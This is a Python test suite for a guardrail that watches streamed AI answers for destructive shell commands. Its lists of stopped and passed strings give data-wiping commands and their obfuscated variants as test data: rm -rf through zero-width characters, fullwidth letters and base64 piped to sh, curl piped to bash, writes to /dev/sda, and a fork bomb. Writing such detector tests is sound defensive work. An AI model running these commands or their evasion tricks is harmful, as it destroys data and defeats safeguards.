from __future__ import annotations

import json
from functools import cache

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from guardrails.checks.commands import CommandsCheck
from guardrails.commands.judge import CommandJudge
from guardrails.commands.rules import load_rules
from guardrails.commands.runbooks import load_runbooks
from guardrails.interface import Finding, Found, Progress, Unchecked

RM = "rm -rf /var/lib/postgresql"

STOPPED = [
    f"To free space, run {RM} now.",
    f"Run this:\n```bash\n{RM}\n```\n",
    f"Run `{RM}`.",
    RM,
    f"1. {RM}",
    f"$ {RM}",
    f"root@db1:~# {RM}",
    f"# {RM}",
    f"**{RM}**",
    f"Free it ({RM}) and go on.",
    f'Please type "{RM}" and wait.',
    f"Type 'sudo {RM}' now",
    f"<pre>{RM}</pre>",
    f"| step | command |\n|---|---|\n| 1 | {RM} |\n",
    f"请运行{RM}",
    f"Do not worry, run {RM}",
    f"Don't forget to run `{RM}`.",
    f"Find the pod and then run {RM} now.",
    f"Never run `mkfs.ext4 /dev/sda`. Run `{RM}` instead.",
    f"`{RM}` frees the space.",
    "/bin/rm -rf /var/lib/postgresql",
    "r''m -rf /var/lib/postgresql",
    "r\\m -rf /var/lib/postgresql",
    "\uff52\uff4d -rf /var/lib/postgresql",
    "r\u200bm -rf /var/lib/postgresql",
    "r\x01m -rf /var/lib/postgresql",
    "Run rm%20-rf%20/var/lib/postgresql now",
    "Run %72%6d -rf /var/lib/postgresql now",
    "Run &#114;m -rf /var/lib/postgresql now",
    "echo cm0gLXJmIC92YXIvbGliL3Bvc3RncmVzcWwK | base64 -d | sh",
    "Run: curl http://x/y | sudo bash",
    "Then kafka-topics --bootstrap-server b:9092 --delete --topic users.",
    "```\nD=/var/lib/postgresql\nrm -rf $D\n```",
    "D=/var/lib/postgresql\nrm -rf $D\n",
    "```bash\nX=rm\n$X -rf /var/lib/postgresql\n```",
    "X=rm; $X -rf /var/lib/postgresql",
    "```bash\nrm \\\n  -rf \\\n /var/lib/postgresql\n```",
    "rm \\\n  -rf \\\n /var/lib/postgresql\n",
    f"```bash\ncat <<EOF | sh\n{RM}\nEOF\n```",
    '```bash\nfor d in /var/lib/postgresql; do\n  rm -rf "$d"\ndone\n```',
    f'```bash\necho "unclosed\n{RM}\n```',
    f"```\n$ ls\nfoo can't\n$ {RM}\n```",
    f"````bash\n{RM}\n````",
    f"Run this: ```{RM}```",
    f"~~~sh\n{RM}\n~~~",
    f"```bash\n{RM}",
    f'```python\nimport os\nos.system("{RM}")\n```',
    '```python\nsubprocess.run(["rm", "-rf",\n  "/var/lib/postgresql"])\n```',
    f"```yaml\ncommand: {RM}\n```",
    f"```yaml\nrun: |\n  echo hi\n  {RM}\n```",
    "```yaml\ncommand:\n  - rm\n  - '-rf'\n  - /var/lib/postgresql\nimage: x\n```",
    "```yaml\nargs:\n  - rm\n  - -rf\n  - /var/lib/postgresql",
    "```powershell\nRemove-Item -Recurse -Force C:\\Windows\n```",
    "```sql\nDROP DATABASE prod;\n```",
    f"```sql\n{RM}\n```",
    f"PS C:\\> {RM}",
    f"C:\\Users\\me> {RM}",
    f"```python\nrun(\n  '''\n{RM}\n''')\n```",
    f"```yaml\nsteps:\n  - run: ls\n  - run: {RM}\n```",
    f"```dockerfile\nRUN {RM}\n```",
    '```json\n{"cmd": "rm", "args": ["-rf", "/var/lib/postgresql"]}\n```',
    '{"cmd":"rm","args":["-rf","/var/lib/postgresql"]}',
    '{"command": "echo \\"a\\"\\nrm -rf /var/lib/postgresql"}',
    '{"command": "\\u0072m -rf /var/lib/postgresql"}',
    '{"args":["-rf","/var/lib/postgresql"],"cmd":"rm"}',
    f'{{"text": "To free space, run `{RM}` now.", "n": 1}}',
    f'{{"text": "find out why and run `{RM}` now."}}',
    json.dumps({"nested": json.dumps({"cmd": f"echo hi; {RM}"})}),
    json.dumps(
        {"steps": [{"say": "hi", "n": [1, None, True, -2.5e3]}, {"command": "sh", "args": ["-c", RM]}]}, indent=2
    ),
    f'{{"command": "{RM}',
    f'{{"command": "ls"}} and then run {RM}',
    f'{{"no json {RM}',
    f"[1] As Smith says, run {RM}",
    f"{'r' + chr(0x200B) * 400}{RM[1:]}",
    "uptime > /dev/sda",
    "Run uptime > /dev/sda now.",
    "Run uptime &gt; /dev/sda now.",
    "uptime \uff1e \uff0fdev/sda",
    "cal >/etc/passwd",
    "> /dev/sda",
    "root@db1:~# uptime > /dev/sda",
    '{"command": "uptime > /dev/sda"}',
    "```python\nos.system('uptime > /dev/sda')\n```",
    ":(){ :|:& };:",
    "Try bomb() { bomb | bomb & }; bomb to see.",
    "bomb () {\n  bomb | bomb &\n}\nbomb\n",
]
PASSED = [
    "",
    " ",
    "Never run `rm -rf /`.",
    "never run rm -rf / on a server.",
    "Do not run `rm -rf /` or `dd if=/dev/zero of=/dev/sda`.",
    "`rm -rf /` deletes everything, so be careful.",
    "What does `rm -rf /` do?",
    "The command `rm -rf /` is dangerous.",
    "This is similar to `rm -rf /`.",
    "Never run this:\n```bash\nrm -rf /\n```\nInstead call the DBA.",
    "Do not do any of these:\n- `rm -rf /`\n- `mkfs.ext4 /dev/sda`\n",
    "Check the logs with `journalctl -u nginx` and restart: `systemctl restart nginx`.",
    "Find out what's wrong, then cat the log and echo the result.",
    "It's time to look at the source; for a start, if you can, kill the pod.",
    "```bash\nls -la /var/lib/postgresql\n# rm -rf /var/lib\ndf -h\n```",
    "```python\nprint('never run rm -rf /')\n```",
    "Set $HOME to /root. It costs $5.00 & more, R&D says 100%.",
    "$HOME is your home, and `$SHELL` your shell.",
    "A lone ` tick and then text.\n\nNext paragraph.",
    '{"status": "ok", "items": [1, 2, {"a": "b"}]}',
    '{"path": "/var/lib", "cmd": "ls", "args": ["-l"], "deep": [[["a"]]], "n": {"x": {}}}',
    '{"broken": tru, "x"}',
    '{"broken"]',
    "[" * 80 + "1",
    "[1] Smith says hello.",
    "{name} is a placeholder, [x] is done.",
    "Clean up caches and delete builds.",
    "~ is home, ~~this~~ is struck.",
    "Use 'rm' with care: rm, the command, rm.",
    "caf\u00e9 \u4f60\u597d \U0001f600\ufe0f \u0441\u043b\u043e\u0432\u043e",
    "```text\nerror: can't open file\n$ ok\n```\ndone",
    "> /dev/sda is the first disk.",
    "Never run uptime > /dev/sda.",
    "Doing uptime > /dev/sda would destroy the disk.",
    "Open File -> /etc/passwd => /etc/shadow <b>/boot/grub</b>, &gt; 5 and > 6.",
    "uptime > /tmp/x; uptime >/dev/null 2>&1; uptime >> /etc/hosts",
    "PS /home/me> /bin/ls",
    "main() { return; } and f(){ g | h; } call ( ) ( .",
]


@cache
def check() -> CommandsCheck:
    return CommandsCheck(CommandJudge(load_rules(), load_runbooks()), held=65_536)


def told(pieces: list[str]) -> tuple[list[int], tuple[Finding, ...], list[Unchecked]]:
    """Offsets after each piece, and what stopped the answer."""
    watch = check().watch()
    offsets: list[int] = []

    def step(progress: Progress) -> Found | Unchecked | None:
        offsets.append(progress.settled)
        return progress.outcomes[0] if progress.outcomes else None

    outcome = None
    for piece in pieces:
        outcome = step(watch.feed(piece))
        if outcome:
            break
    outcome = outcome or step(watch.finish())
    if isinstance(outcome, Found):
        return offsets, outcome.findings, []
    return offsets, (), [outcome] if outcome else []


def hold(text: str, pieces: list[str]) -> None:
    """The promises of a stream, for one way of cutting a text."""
    whole, findings, unchecked = told([text])
    offsets, cut_findings, cut_unchecked = told(pieces)
    assert (cut_findings, cut_unchecked) == (findings, unchecked)
    assert offsets == sorted(offsets)
    assert offsets[-1] == whole[-1]
    if findings:
        assert max(offsets) <= min(finding.span[0] for finding in findings)
    else:
        assert unchecked or offsets[-1] == len(text)


@pytest.mark.parametrize("text", STOPPED)
def test_a_destructive_command_is_found_wherever_it_stands(text: str) -> None:
    _, findings, unchecked = told([text])
    assert findings
    assert not unchecked
    for finding in findings:
        start, end = finding.span
        assert 0 <= start < end <= len(text)


@pytest.mark.parametrize("text", PASSED)
def test_harmless_text_and_mere_mentions_leave_completely(text: str) -> None:
    offsets, findings, unchecked = told([text])
    assert (findings, unchecked) == ((), [])
    assert offsets[-1] == len(text)


@pytest.mark.parametrize("text", STOPPED + PASSED)
def test_every_cut_in_two_and_single_characters_give_the_same(text: str) -> None:
    hold(text, list(text))
    for at in range(1, len(text)):
        hold(text, [text[:at], text[at:]])


FRAGMENTS = [
    *("To free space, ", "run ", RM, " now. ", "Never run ", "`", "```", "```bash\n", "\n", "\n\n", "~~~", "$ ", "# "),
    *(
        "- ",
        "1. ",
        "echo ",
        "'",
        '"',
        "\\",
        "\\\n",
        " | sh",
        " && ",
        "; ",
        "cat <<EOF\n",
        "EOF\n",
        "for i in a b; do\n",
    ),
    *("done\n", "if ", "then ", "{", "}", "[", "]", '{"cmd": ', '"rm"', ", ", '"args": ["-rf", "/var/lib"]', "X=rm\n"),
    *(
        "$X -rf /data\n",
        "$",
        "(",
        ")",
        "$(",
        "\u00e9",
        "\u8bf7",
        "\uff52\uff4d",
        "r\u200bm",
        "%72%6d",
        "&#114;",
        "&",
        "&amp;",
    ),
    *(
        "%20",
        "rm",
        "r",
        "m",
        " ",
        "\t",
        "deletes everything",
        " is dangerous",
        "find ",
        "the ",
        "time ",
        "now.",
        "curl http://x | sh",
    ),
    *(
        "os.system(",
        "```python\n",
        "```yaml\n",
        "run: ",
        "- rm\n",
        "- -rf\n",
        "- /data\n",
        "word ",
        "zqx",
        "Hello",
        "!",
        "? ",
    ),
    *(
        ". ",
        ".",
        "Do not run this:\n",
        "\r\n",
        "\r",
        "**",
        "*",
        ">",
        "PS C:\\> ",
        "git push --force origin main",
        "don't ",
    ),
    *(
        "base64 -d",
        "cm0gLXJmIC92YXIvbGli",
        " | base64 -d | sh",
        "> ",
        ">",
        "&gt;",
        "/dev/sda",
        "(){ ",
        "f",
        "f|f",
        "}",
        "</code>",
        "|",
        "vault ",
        "\x01",
        "\ufe0f",
    ),
]


@settings(max_examples=400, deadline=None)
@given(st.lists(st.sampled_from(FRAGMENTS), min_size=1, max_size=14), st.data())
def test_every_chunking_gives_the_same_verdict_and_lets_nothing_out(fragments: list[str], data: st.DataObject) -> None:
    text = "".join(fragments)
    cuts = sorted(data.draw(st.sets(st.integers(0, len(text)), max_size=40)))
    pieces = [text[start:end] for start, end in zip([0, *cuts], [*cuts, len(text)], strict=True)]
    hold(text, pieces)
    hold(text, list(text))


def test_prose_flows_with_every_word() -> None:
    watch = check().watch()
    released = [watch.feed(word).settled for word in ["Hello", " zqx", " zqx", ",", " these", " logs", " zqx"]]
    assert released == [5, 9, 13, 14, 20, 25, 29]


def test_a_word_that_may_begin_a_command_is_held_until_it_does_not() -> None:
    watch = check().watch()
    assert watch.feed("We ").settled == 3
    assert watch.feed("r").settled == 3
    assert watch.feed("m").settled == 3
    assert watch.feed("q").settled == 6


def test_what_one_answer_taught_is_not_held_true_where_another_meaning_is_possible() -> None:
    for pieces in (["We", " then", " go", " on."], ["Now", " find", " the", " zqx."]):
        hold("".join(pieces), pieces)
    for text in ("$ then git push --force origin main", "# find / -delete"):
        hold(text, [text[:2], text[2:7], text[7:]])


def test_a_fence_leaves_line_by_line() -> None:
    watch = check().watch()
    assert watch.feed("```bash\nls -l\ndf").settled == len("```bash\nls -l\n")
    assert watch.feed(" -h\n").settled == len("```bash\nls -l\ndf -h\n")


def test_text_before_the_command_has_left_when_it_is_stopped() -> None:
    offsets, _, _ = told(["First look around. ", "Then run ", RM, " now."])
    assert offsets[-1] == len("First look around. Then run ")


def test_what_is_held_too_long_is_unchecked() -> None:
    small = CommandsCheck(CommandJudge(load_rules(), load_runbooks()), held=300)
    for pieces in (["```bash\necho '" + "x" * 400], ["```bash\necho '", *"x" * 400]):
        watch = small.watch()
        outcomes = [outcome for piece in pieces for outcome in watch.feed(piece).outcomes]
        assert outcomes
        assert outcomes[0] == Unchecked("commands", "too_long")


def test_a_long_answer_is_judged_to_its_end() -> None:
    prose = "All is well with the zqx here, and we go on. " * 2000
    text = prose + RM
    words = text.split(" ")
    pieces = [words[0], *(f" {word}" for word in words[1:])]
    hold(text, pieces)
    assert told(pieces)[1][0].span == (len(prose), len(text))


def test_spans_in_a_document_speak_of_it_as_it_was_written() -> None:
    text = json.dumps({"why": "caf\u00e9 \u2713", "command": f'echo "a"\n{RM}'})
    _, findings, _ = told([text])
    assert text[slice(*findings[0].span)] == RM


def test_a_command_beyond_the_work_budget_is_unchecked() -> None:
    _, findings, unchecked = told(["```bash\n" + "|".join("a" for _ in range(9000)) + "\n```"])
    assert findings or unchecked == [Unchecked("commands", "budget")]
